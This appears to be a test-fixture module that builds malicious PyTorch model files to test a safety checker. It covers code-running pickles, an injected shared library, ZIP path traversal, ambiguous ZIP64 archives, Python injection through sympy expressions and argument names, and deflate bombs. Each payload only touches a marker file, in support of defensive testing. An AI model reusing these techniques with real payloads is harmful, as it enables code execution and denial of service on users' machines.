"""Crafted files that attack ``xshap check``, each carrying a payload that leaves a marker file if it ever runs.

Every builder returns the bytes of a file; the payloads only create an empty marker file (``open(path, "w")``
when unpickled, a shell ``touch`` in an evaluated expression, a constructor in a shared library), so a test
proves that nothing ran by the marker's absence, and that the attack is real by running it against torch's own
loader where that is safe to do.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import tempfile
import zipfile
import zlib
from pathlib import Path

import torch

from tests.zipcraft import Crafted, Layout, build_zip, two_views


class MarkerPayload:
    """Unpickled, it creates ``path``: a stand-in for code the attacker wants run."""

    def __init__(self, path: Path):
        self.path = str(path)

    def __reduce__(self):
        return (open, (self.path, "w"))


def marker_pickle(marker: Path) -> bytes:
    """A ``torch.save`` file whose pickle creates ``marker`` when loaded with ``weights_only=False``."""
    buffer = io.BytesIO()
    torch.save(MarkerPayload(marker), buffer)
    return buffer.getvalue()


def small_model() -> torch.nn.Module:
    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Linear(4, 6), torch.nn.ReLU(), torch.nn.Linear(6, 2)).eval()


def clean_program(rows: int = 1, dynamic: bool = False, extra_files: dict | None = None) -> bytes:
    """``torch.export.save`` of a small MLP: for one row, a static batch of ``rows``, or a dynamic batch."""
    x = torch.randn(max(rows, 2 if dynamic else rows), 4)
    shapes = ({0: torch.export.Dim("batch")},) if dynamic else None
    program = torch.export.export(small_model(), (x[:rows] if not dynamic else x,), dynamic_shapes=shapes)
    buffer = io.BytesIO()
    torch.export.save(program, buffer, extra_files=extra_files)
    return buffer.getvalue()


def entries(archive: bytes) -> tuple[str, dict[str, bytes]]:
    """(root folder, {name inside the root: bytes}) of a well-formed archive."""
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        names = z.namelist()
        root = names[0].split("/")[0]
        return root, {name[len(root) + 1 :]: z.read(name) for name in names}


def rezip(root: str, records: dict[str, bytes], **entry_options) -> bytes:
    """An archive of ``records`` under ``root``, written by ``zipcraft`` (stored, consistent headers)."""
    return build_zip(
        Layout(entries=[Crafted(f"{root}/{name}", data, **entry_options) for name, data in records.items()])
    )


def modified(archive: bytes, add: dict | None = None, drop: tuple = (), program=None, config=None) -> bytes:
    """``archive`` with entries added (or replaced), dropped, its program JSON or a payload config edited
    (``program(doc)`` / ``config(name, doc)`` change the parsed JSON in place)."""
    root, records = entries(archive)
    for name in drop:
        records.pop(name)
    if program is not None:
        document = json.loads(records["models/model.json"])
        program(document)
        records["models/model.json"] = json.dumps(document).encode()
    if config is not None:
        for name in ("data/weights/model_weights_config.json", "data/constants/model_constants_config.json"):
            document = json.loads(records[name])
            config(name, document)
            records[name] = json.dumps(document).encode()
    records.update(add or {})
    return rezip(root, records)


def first_weight_meta(archive: bytes) -> dict:
    _, records = entries(archive)
    config = json.loads(records["data/weights/model_weights_config.json"])["config"]
    return next(iter(config.values()))["tensor_meta"]


def second_program(clean: bytes, marker: Path) -> bytes:
    """Attack 1a: a second program under ``models/`` whose name does not end in ``.json``, with a weight that
    torch loads with ``torch.load(weights_only=False)`` (``use_pickle``)."""
    _, records = entries(clean)
    meta = first_weight_meta(clean)
    config = {"config": {"w": {"path_name": "weight_99", "is_param": False, "use_pickle": True, "tensor_meta": meta}}}
    return modified(
        clean,
        add={
            "models/evil.bin": records["models/model.json"],  # torch's program name for it: "evi"
            "data/sample_inputs/evi.pt": records["data/sample_inputs/model.pt"],
            "data/weights/evi_weights_config.json": json.dumps(config).encode(),
            "data/weights/weight_99": marker_pickle(marker),
            "data/constants/evi_constants_config.json": b'{"config": {}}',
        },
    )


def pickled_weight(clean: bytes, marker: Path) -> bytes:
    """The program's own first weight marked ``use_pickle`` and replaced by a code-running pickle."""

    def edit(name, document):
        if "weights" in name:
            entry = next(iter(document["config"].values()))
            entry["use_pickle"] = True
            entry["path_name"] = "weight_0"

    return modified(clean, add={"data/weights/weight_0": marker_pickle(marker)}, config=edit)


def shared_library(marker: Path) -> bytes:
    """A shared library whose constructor creates ``marker`` when it is loaded (a C compiler is needed; without
    one, bytes that only look like an ELF file)."""
    compiler = shutil.which("cc") or shutil.which("gcc")
    if compiler is None:
        return b"\x7fELF" + b"\x00" * 60
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder) / "payload.c"
        source.write_text(
            "#include <stdio.h>\n"
            f'__attribute__((constructor)) static void run(void) {{ FILE *f = fopen("{marker}", "w"); if (f) fclose(f); }}\n'
        )
        library = Path(folder) / "payload.so"
        subprocess.run([compiler, "-shared", "-fPIC", "-o", str(library), str(source)], check=True, capture_output=True)
        return library.read_bytes()


def aoti_library(clean: bytes, library: bytes) -> bytes:
    """Attack 1b: AOTInductor "compiled code" that torch.export.load extracts and dlopens."""
    return modified(
        clean,
        add={
            "data/aotinductor/model/model.so": library,
            "data/aotinductor/model/model.wrapper.cpp": b"// nothing",
            "data/aotinductor/model/model_metadata.json": b'{"AOTI_DEVICE_KEY": "cpu"}',
        },
    )


def traversal(clean: bytes, depth: int = 6) -> bytes:
    """Attack 2: an AOTInductor entry whose name climbs out of the folder it is extracted to."""
    root, records = entries(clean)
    records["data/aotinductor/model/" + "../" * depth + "escaped.so"] = b"outside"
    return rezip(root, records)


def ambiguous_zip64(clean: bytes, marker: Path) -> bytes:
    """Attack 1c: two ZIP64 end records. A reader following the ZIP64 locator (torch's) sees the clean program;
    Python's zipfile (torch's fallback reader) sees a legacy-format archive whose weights are a payload."""
    root, records = entries(clean)
    hidden = {
        "version": b"8.3",
        "serialized_exported_program.json": b"{}",
        "serialized_state_dict.pt": marker_pickle(marker),
        "serialized_constants.pt": marker_pickle(marker),
        "serialized_example_inputs.pt": marker_pickle(marker),
    }
    return two_views(
        [Crafted(name, data) for name, data in hidden.items()],
        [Crafted(f"{root}/{name}", data) for name, data in records.items()],
    )


def expression_injection(clean_dynamic: bytes, marker: Path) -> bytes:
    """A dynamic-batch program whose symbolic sizes are Python for ``sympy.sympify`` (torch's loader evals them)."""
    payload = f"__import__('os').system('touch {marker}') or Symbol('s77', positive=True, integer=True)"

    def edit(value):
        if isinstance(value, dict):
            for key, item in value.items():
                if key == "expr_str":
                    value[key] = payload
                else:
                    edit(item)
        elif isinstance(value, list):
            for item in value:
                edit(item)

    return modified(clean_dynamic, program=edit)


def zeros_deflated(size: int) -> bytes:
    """A raw deflate stream of ``size`` zero bytes, in milliseconds and about size/1000 bytes: the compressed
    form of one MiB of zeros, flushed to a byte boundary, decodes to zeros again wherever the window holds only
    zeros, so it is repeated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    mib = 1 << 20
    chunks, rest = divmod(size, mib)
    if chunks < 2:
        return compressor.compress(bytes(size)) + compressor.flush()
    first = compressor.compress(bytes(mib)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    unit = compressor.compress(bytes(mib)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    return first + unit * (chunks - 1) + compressor.compress(bytes(rest)) + compressor.flush()


def zeros_crc(size: int) -> int:
    crc, chunk = 0, bytes(1 << 20)
    for _ in range(size >> 20):
        crc = zlib.crc32(chunk, crc)
    return zlib.crc32(bytes(size & ((1 << 20) - 1)), crc)


def deflate_bomb(name: str, size: int, declared: int | None = None) -> Crafted:
    """An entry of ``size`` zeros, deflated; ``declared``: the (smaller) uncompressed size its headers claim."""
    claimed = size if declared is None else declared
    return Crafted(name, b"", method=8, declared_size=claimed, crc=zeros_crc(claimed), stream=zeros_deflated(size))


def bomb_program(clean: bytes, size: int, declared: int | None = None, entry: str = "extra/notes.txt") -> bytes:
    """A ``.pt2`` of about a megabyte with one entry that inflates to ``size`` bytes of zeros."""
    root, records = entries(clean)
    crafted = [Crafted(f"{root}/{name}", data) for name, data in records.items() if name != entry]
    crafted.append(deflate_bomb(f"{root}/{entry}", size, declared))
    return build_zip(Layout(entries=crafted))


def bomb_tensor_file(size: int) -> bytes:
    """A ``.pt`` of about a megabyte whose storage inflates to a ``size``-byte tensor of zeros."""
    buffer = io.BytesIO()
    torch.save(torch.zeros(4), buffer)
    root, records = entries(buffer.getvalue())
    pickled = records["data.pkl"].replace(b"K\x04t", b"J" + (size // 4).to_bytes(4, "little") + b"t")
    crafted = [Crafted(f"{root}/{name}", pickled if name == "data.pkl" else data) for name, data in records.items()]
    crafted = [c for c in crafted if not c.name.endswith("/data/0")]
    crafted.append(deflate_bomb(f"{root}/data/0", size))
    return build_zip(Layout(entries=crafted))


def npy_header(shape: tuple, dtype: str = "<f8") -> bytes:
    """A ``.npy`` header claiming an array of ``shape``, and no data after it."""
    header = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape!r}, }}".encode()
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header


def enum_import(clean: bytes, module_name: str) -> bytes:
    """A program whose input tree spec names an enum in ``module_name``: torch's pytree reader imports it."""
    leaf = {"type": None, "context": None, "children_spec": []}
    enum = json.dumps([{"__enum__": True, "fqn": f"{module_name}:E", "name": "A"}])
    spec = [
        1,
        {
            "type": "builtins.tuple",
            "context": "null",
            "children_spec": [
                {"type": "builtins.tuple", "context": "null", "children_spec": [leaf]},
                {"type": "builtins.dict", "context": enum, "children_spec": [leaf]},
            ],
        },
    ]

    def edit(document):
        document["graph_module"]["module_call_graph"][0]["signature"]["in_spec"] = json.dumps(spec)

    return modified(clean, program=edit)


def argument_name_injection(clean: bytes, marker: Path) -> bytes:
    """A program whose argument name is Python: torch writes it into the signature of the module it builds."""

    def edit(document):
        signature = document["graph_module"]["module_call_graph"][0]["signature"]
        signature["forward_arg_names"] = [f"x=__import__('os').system('touch {marker}')"]

    return modified(clean, program=edit)
